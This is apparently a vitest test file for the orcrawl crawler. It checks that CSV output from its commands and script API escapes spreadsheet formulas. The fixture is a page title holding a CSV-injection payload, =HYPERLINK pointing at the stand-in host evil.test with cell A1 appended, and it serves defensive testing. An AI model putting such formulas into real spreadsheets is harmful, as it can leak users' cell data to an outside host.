// Titles and names that a spreadsheet would run, through every command and call that writes CSV: each cell is only text
// there, unless raw cells were asked for.
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { HttpCrawler } from '../../src/index.js';
import { orcrawlHere } from '../support/cli-here.js';
import { memoryConfig, silent } from '../support/crawl.js';

const FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Click")';
const QUOTED = FORMULA.replaceAll('"', '""');

let server: Server;
let url: string;
let folder: string;
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'orcrawl-spreadsheets-'));
  server = createServer((request, response) => {
    if (request.url === '/robots.txt') return void response.writeHead(404).end();
    const title = FORMULA.replaceAll('"', '&quot;').replaceAll('&A1', '&amp;A1');
    response.writeHead(200, { 'content-type': 'text/html' }).end(`<title>${title}</title><p>Words of a page.`);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
});
afterAll(() => {
  server.closeAllConnections();
  server.close();
  rmSync(folder, { recursive: true, force: true, maxRetries: 3 });
});

const run = (...args: string[]) => orcrawlHere(args, { cwd: folder });

describe('a page whose title is a formula', () => {
  it('is text in the CSV of batch, crawl and export, and as it was with --raw-csv', async () => {
    for (const [raw, cell] of [
      [[], `"'${QUOTED}"`],
      [['--raw-csv'], `"${QUOTED}"`],
    ] as const) {
      const batch = await run('batch', url, '--format', 'csv', ...raw);
      expect(batch.stdout).toContain(cell);
      const out = join(folder, `crawl${raw.length}`);
      const crawled = await run('crawl', url, '--out', out, '--format', 'csv', '--delay', '0', ...raw);
      expect(crawled.code).toBe(0);
      const files = readdirSync(out, { recursive: true }).map(String);
      const csv = files.filter((file) => file.endsWith('.csv'));
      expect(csv.length).toBeGreaterThan(0);
      for (const file of csv) expect(readFileSync(join(out, file), 'utf8')).toContain(cell);
      const exported = await run('export', out, '--format', 'csv', ...raw);
      expect(exported.stdout).toContain(cell);
    }
  });

  it('is text in what a script exports, names of columns too, and as it was with rawCells', async () => {
    const crawler = new HttpCrawler(
      { log: silent, requestHandler: ({ content, pushData }) => pushData({ title: content.title, '=1+1': 1 }) },
      memoryConfig(),
    );
    await crawler.run([url]);
    const files = [join(folder, 'safe.csv'), join(folder, 'raw.csv')] as const;
    await crawler.exportData(files[0]);
    await crawler.exportData(files[1], 'csv', { rawCells: true });
    expect(readFileSync(files[0], 'utf8')).toBe(`title,'=1+1\n"'${QUOTED}",1\n`);
    expect(readFileSync(files[1], 'utf8')).toBe(`title,=1+1\n"${QUOTED}",1\n`);
  });
});
